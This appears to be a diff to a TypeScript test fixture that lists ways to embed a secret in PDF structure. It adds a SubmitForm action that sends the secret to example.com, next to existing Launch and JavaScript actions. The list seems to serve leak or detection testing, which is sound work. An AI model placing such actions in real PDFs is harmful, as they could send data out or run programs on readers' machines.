@@ -49,6 +49,9 @@ export const channelsOfStructure: readonly Channel[] = [
   channel('a program to launch', (document) =>
     link(document, `/S/Launch/F<</Type/Filespec/F(x)/UF(${secret})>>`),
   ),
+  channel('a form’s address', (document) =>
+    link(document, `/S/SubmitForm/F<</FS/URL/F(https://example.com/?q=${secret.replace(' ', '+')})>>`),
+  ),
   channel('an action after another', (document) =>
     link(document, `/S/Named/N/NextPage/Next<</S/JavaScript/JS(app.alert\\("${secret}"\\))>>`),
   ),
